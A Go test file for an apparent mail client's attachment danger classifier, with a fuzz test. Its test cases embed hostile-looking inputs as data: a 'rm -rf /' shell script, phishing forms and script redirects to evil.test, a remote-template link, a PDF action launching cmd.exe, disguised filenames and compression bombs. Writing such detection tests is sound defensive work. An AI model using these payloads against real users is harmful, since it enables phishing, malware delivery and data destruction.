package mime

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"maildesk/store"
)

type packed struct{ name, content string }

func zipped(t testing.TB, files ...packed) string {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, f := range files {
		file, err := w.Create(f.name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := file.Write([]byte(f.content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func gzipped(t testing.TB, content string) string {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	if _, err := w.Write([]byte(content)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func tarred(t testing.TB, name, content string) string {
	t.Helper()
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	if err := w.WriteHeader(&tar.Header{Name: name, Size: int64(len(content)), Mode: 0o644, Typeflag: tar.TypeReg, Format: tar.FormatUSTAR}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write([]byte(content)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// lockedZip marks the files of a zip as encrypted.
func lockedZip(content string) string {
	b := []byte(content)
	for _, mark := range []struct {
		magic string
		flag  int
	}{{"PK\x03\x04", 6}, {"PK\x01\x02", 8}} {
		for at := 0; ; {
			i := bytes.Index(b[at:], []byte(mark.magic))
			if i < 0 {
				break
			}
			b[at+i+mark.flag] |= 1
			at += i + 4
		}
	}
	return string(b)
}

// rar4 is an archive of version 4 with files of three bytes.
func rar4(flags byte, names ...string) string {
	var b bytes.Buffer
	b.WriteString("Rar!\x1a\x07\x00\xcf\x90\x73\x00\x00\x0d\x00\x00\x00\x00\x00\x00\x00")
	for _, name := range names {
		b.Write([]byte{0, 0, 0x74, flags, 0x80, byte(32 + len(name)), 0, 3, 0, 0, 0, 3, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 29, 0x30, byte(len(name)), 0, 0, 0, 0, 0})
		b.WriteString(name + "xyz")
	}
	b.WriteString("\xc4\x3d\x7b\x00\x40\x07\x00")
	return b.String()
}

// rar5 is the same of version 5.
func rar5(extra []byte, names ...string) string {
	var b bytes.Buffer
	b.WriteString("Rar!\x1a\x07\x01\x00")
	block := func(content []byte, data string) {
		b.Write([]byte{0, 0, 0, 0, byte(len(content))})
		b.Write(content)
		b.WriteString(data)
	}
	block([]byte{1, 0, 0}, "")
	for _, name := range names {
		head := []byte{2, 2, 3, 4, 3, 0, 0, 0, 0, 0, 0, 1, byte(len(name))}
		if len(extra) > 0 {
			head = append([]byte{2, 3, byte(len(extra))}, head[2:]...)
		}
		block(append(append(head, name...), extra...), "xyz")
	}
	block([]byte{5, 0, 0}, "")
	return b.String()
}

// matryoshka is a zip in a zip in a zip.
func matryoshka(t testing.TB, depth int) string {
	content := "PK"
	for range depth {
		content = zipped(t, packed{"inner.zip", content})
	}
	return content
}

func wideText(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		b.WriteByte(c)
		b.WriteByte(0)
	}
	return b.String()
}

const (
	compound = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
	program  = "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00\x00\x00\x00\x00\x40\x00\x00\x00\x00\x00\x00\x00" +
		"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x80\x00\x00\x00 This program"
)

// mailWith is a mail with one attachment.
func mailWith(name, contentType, content string) string {
	return fmt.Sprintf("From: a@corp.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n"+
		"--q\r\nContent-Type: text/plain\r\n\r\nsee file\r\n--q\r\nContent-Type: %s\r\nContent-Disposition: attachment; filename=\"%s\"\r\n"+
		"Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--q--\r\n", contentType, name, base64.StdEncoding.EncodeToString([]byte(content)))
}

// TestDanger: files are known by what they are; what people send each other
// every day is let through.
func TestDanger(t *testing.T) {
	t.Parallel()
	png := "\x89PNG\r\n\x1a\n" + strings.Repeat("x", 100)
	for _, test := range []struct {
		name, contentType, content, want string
	}{
		{"photo.png", "image/png", png, ""},
		{"report.pdf", "application/pdf", "%PDF-1.7 …", ""},
		{"日志.txt", "text/plain", "MZ is how a program begins", ""},
		{"list.csv", "text/csv", "a,b", ""},
		{"table.xlsx", "application/octet-stream", zipped(t, packed{"[Content_Types].xml", "<x/>"}, packed{"xl/workbook.xml", "<x/>"}), ""},
		{"logs.zip", "application/zip", zipped(t, packed{"logs/", ""}, packed{"logs/a.log", "hello"}, packed{"b.png", png}), ""},
		{"logs.tar.gz", "application/gzip", gzipped(t, tarred(t, "a.log", "hello")), ""},
		{"log.gz", "application/gzip", gzipped(t, "hello"), ""},
		{"old.doc", "application/msword", compound + strings.Repeat("\x00", 600) + wideText("WordDocument"), ""},
		{"page.html", "text/html", "<html><body>table</body></html>", ""},
		{"data.rar", "application/x-rar", rar4(0, "日志.log", "b.txt"), ""},
		{"data.rar", "application/x-rar", rar5(nil, "日志.log", "b.txt"), ""},
		{"mail.eml", "message/rfc822", mailWith("photo.png", "image/png", png), ""},

		{"setup.exe", "application/octet-stream", program, runs},
		{"photo.png", "image/png", program, runs},
		{"photo.jpg", "image/jpeg", "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 80), runs},
		{"notes.txt", "text/plain", "#!/bin/sh\nrm -rf /", runs},
		{"invoice.pdf.exe", "application/pdf", "x", runs},
		{"invoice.exe. ", "application/pdf", "x", runs},
		{"invoice\u202efdp.exe", "application/pdf", "x", runs},
		{"holiday.scr", "image/png", png, runs},
		{"run.ps1", "text/plain", "Get-Item", runs},
		{"readme.lnk", "application/octet-stream", "x", runs},
		{"readme", "application/octet-stream", "L\x00\x00\x00\x01\x14\x02\x00\x00\x00", runs},
		{"disk.iso", "application/octet-stream", "x", image},
		{"disk.dat", "application/octet-stream", strings.Repeat("\x00", 0x8001) + "CD001", image},
		{"report.docm", "application/octet-stream", "x", macros},
		{"report.docx", "application/octet-stream", zipped(t, packed{"word/document.xml", "<x/>"}, packed{"word/vbaProject.bin", "x"}), macros},
		{"report.doc", "application/msword", compound + strings.Repeat("\x00", 600) + wideText("_VBA_PROJECT"), macros},
		{"report.rtf", "application/rtf", "{\\rtf1 {\\object\\objdata 0105}}", macros},
		{"report.xls", "application/msword", compound + wideText("EncryptedPackage"), locked},
		{"files.zip", "application/zip", zipped(t, packed{"a.txt", "x"}, packed{"deep/setup.exe", "x"}), runs},
		{"files.zip", "application/zip", zipped(t, packed{"a.txt", program}), runs},
		{"files.jpg", "image/jpeg", zipped(t, packed{"a.txt", program}), runs},
		{"files.zip", "application/zip", zipped(t, packed{"inner.zip", zipped(t, packed{"setup.exe", "x"})}), runs},
		{"files.zip", "application/zip", lockedZip(zipped(t, packed{"a.txt", "x"})), locked},
		{"files.zip", "application/zip", "PK\x03\x04 broken", unreadable},
		{"files.tgz", "application/gzip", gzipped(t, tarred(t, "setup.exe", "x")), runs},
		{"files.gz", "application/gzip", gzipped(t, program), runs},
		{"files.rar", "application/x-rar", rar4(0, "a.log", "安装.exe"), runs},
		{"files.rar", "application/x-rar", rar5(nil, "a.log", "安装.exe"), runs},
		{"files.rar", "application/x-rar", rar4(0x04, "a.log"), locked},
		{"files.rar", "application/x-rar", rar5([]byte{3, 1, 0, 0}, "a.log"), locked},
		{"files.rar", "application/x-rar", "Rar!\x1a\x07\x00\xcf\x90\x73\x80\x00\x0d\x00\x00\x00\x00\x00\x00\x00", locked},
		{"files.rar", "application/x-rar", "Rar!\x1a\x07\x01\x00\x00\x00\x00\x00\x02\x04\x00", locked},
		{"files.rar", "application/x-rar", "Rar!\x1a\x07\x00 broken", unreadable},
		{"files.7z", "application/x-7z-compressed", "7z\xbc\xaf\x27\x1c\x00\x04", unreadable},
		{"bomb.zip", "application/zip", zipped(t, packed{"zeros", strings.Repeat("\x00", 50<<20)}), bomb},
		{"bomb.gz", "application/gzip", gzipped(t, strings.Repeat("\x00", mostUnpack+1)), bomb},
		{"matryoshka.zip", "application/zip", matryoshka(t, 8), nested},
		{"login.html", "text/html", "<form action=http://evil.test><input type=password></form>", scripted},
		{"login.svg", "image/svg+xml", "<svg onload=alert(1)>", scripted},
		{"notes.one", "application/msonenote", "x", runs},
		{"notes.dat", "application/octet-stream", "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + strings.Repeat("\x00", 80), runs},
		{"server.rdp", "application/octet-stream", "full address:s:evil.test", runs},
		{"site.webloc", "application/octet-stream", "x", runs},
		{"profile.mobileconfig", "application/octet-stream", "x", runs},
		{"run.py", "text/x-python", "import os", runs},
		{"base.accdb", "application/octet-stream", "x", macros},
		{"table.xlsx", "application/octet-stream", zipped(t, packed{"xl/workbook.xml", "<x/>"}, packed{"xl/macrosheets/sheet1.xml", "<x/>"}), macros},
		{"letter.docx", "application/octet-stream", zipped(t, packed{"word/document.xml", "<x/>"}, packed{"word/activeX/activeX1.bin", "x"}), macros},
		{"letter.docx", "application/octet-stream", zipped(t, packed{"word/_rels/settings.xml.rels",
			`<Relationship Type="http://x/attachedTemplate" Target="https://evil.test/a.dotm" TargetMode="External"/>`}), macros},
		{"letter.docx", "application/octet-stream", zipped(t, packed{"word/_rels/document.xml.rels",
			`<Relationship Type="http://x/hyperlink" Target="https://corp.example/" TargetMode="External"/>`}), ""},
		{"letter.docx", "application/octet-stream", zipped(t, packed{"word/embeddings/oleObject1.bin", compound + wideText("\x01Ole10Native") + "setup.exe"}), runs},
		{"mail.msg", "application/vnd.ms-outlook", compound + wideText("__attach_version1.0_#00000000"), unreadable},
		{"mail.msg", "application/vnd.ms-outlook", compound + wideText("__substg1.0_1000001F"), ""},
		{"form.pdf", "application/pdf", "%PDF-1.7\n1 0 obj <</OpenAction<</S/Launch/F(cmd.exe)>>>>", runs},
		{"form.pdf", "application/pdf", "%PDF-1.7\n1 0 obj <</OpenAction<</S/J#61vaScript/JS(app.alert(1))>>>>", scripted},
		{"form.pdf", "application/pdf", "%PDF-1.7\n1 0 obj <</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", scripted},
		{"form.pdf", "application/pdf", "%PDF-1.7\n1 0 obj <</Names<</EmbeddedFiles 2 0 R>>>> 2 0 obj <</Type/Filespec/F(setup.exe)>>", runs},
		{"disk.zip", "application/zip", zipped(t, packed{"backup.dat", strings.Repeat("\x00", 0x8001) + "CD001"}), image},
		{"login.zip", "application/zip", zipped(t, packed{"readme.html", "<html>" + strings.Repeat("x", 4000) + "<script>location='https://evil.test'</script>"}), scripted},
		{"login.html. ", "application/octet-stream", "<script>x</script>", scripted},
		{"login.html", "text/html", "\xff\xfe" + wideText("<script>x</script>"), scripted},
		{"login.html", "text/html", "<body onpointerrawupdate=location='//evil.test'>", scripted},
		{"login.html", "text/html", `<a href="&#106;avascript:x()">open</a>`, scripted},
		{"login.html", "text/html", `<a href="data:text/html;base64,PHNjcmlwdD4=">open</a>`, scripted},
		{"login.svgz", "image/svg+xml", gzipped(t, "<svg><script>x</script></svg>"), scripted},
		{"report.shtml", "application/octet-stream", "<script>x</script>", scripted},
		{"photo.png", "text/html", "<script>x</script>", scripted},
		{"files.xz", "application/x-xz", "\xfd7zXZ\x00\x00\x04", unreadable},
		{"files.bz2", "application/x-bzip2", "BZh91AY&SY", unreadable},
		{"files.zst", "application/zstd", "\x28\xb5\x2f\xfd\x04", unreadable},
		{"files.lzh", "application/x-lzh", "\x22\x19-lh5-xxxxx", unreadable},
		{"files.arj", "application/x-arj", "\x60\xea\x22\x00\x1e", unreadable},
		{"files.ace", "application/x-ace", "\x30\x31\x31\x00\x90\x00\x00**ACE**", unreadable},
		{"files.cab", "application/octet-stream", "x", unreadable},
		{"logs.zip", "application/zip", "MZ" + strings.Repeat("\x00", 100) + zipped(t, packed{"a.txt", "x"}), runs},
		{"logs.zip", "application/zip", zipped(t, packed{"a.txt", "x"}, packed{"inner.7z", "7z\xbc\xaf\x27\x1c\x00\x04"}), unreadable},
		{"logs.zip", "application/zip", zipped(t, packed{"a.txt", "x"}, packed{"inner.zip", lockedZip(zipped(t, packed{"b.txt", "x"}))}), locked},
		{"logs.tar", "application/x-tar", tarred(t, "inner.rar", rar4(0x04, "a.log")), locked},
		{"mail.eml", "message/rfc822", mailWith("photo.png", "image/png", program), runs},
		{"mail.eml", "application/octet-stream", mailWith("inner.eml", "message/rfc822", mailWith("x.zip", "application/zip", zipped(t, packed{"setup.exe", "x"}))), runs},
	} {
		p, m := &Parser{}, &store.Message{}
		p.ReadText(p.Read([]byte(mailWith(test.name, test.contentType, test.content))), m)
		if len(m.Attachments) != 1 {
			t.Errorf("%s: got %d attachments, want 1", test.name, len(m.Attachments))
			continue
		}
		if got := m.Attachments[0].Danger; got != test.want {
			t.Errorf("%s (%.12q): got %q, want %q", test.name, test.content, got, test.want)
		}
	}
}

// FuzzDanger: whatever a file is, it is judged in little time and memory.
func FuzzDanger(f *testing.F) {
	f.Add("a.zip", []byte(zipped(f, packed{"inner.zip", zipped(f, packed{"setup.exe", "x"})})))
	f.Add("a.tgz", []byte(gzipped(f, tarred(f, "a", "x"))))
	f.Add("a.rar", []byte(rar4(0, "a")))
	f.Add("a.rar", []byte(rar5(nil, "a")))
	f.Add("a.eml", []byte(mailWith("x", "text/html", "<form>")))
	f.Fuzz(func(t *testing.T, name string, content []byte) {
		p := &Parser{}
		p.danger(name, "application/octet-stream", content, nil)
		for _, d := range p.Defects {
			if d == "panic" {
				t.Error("looking at the file broke")
			}
		}
	})
}
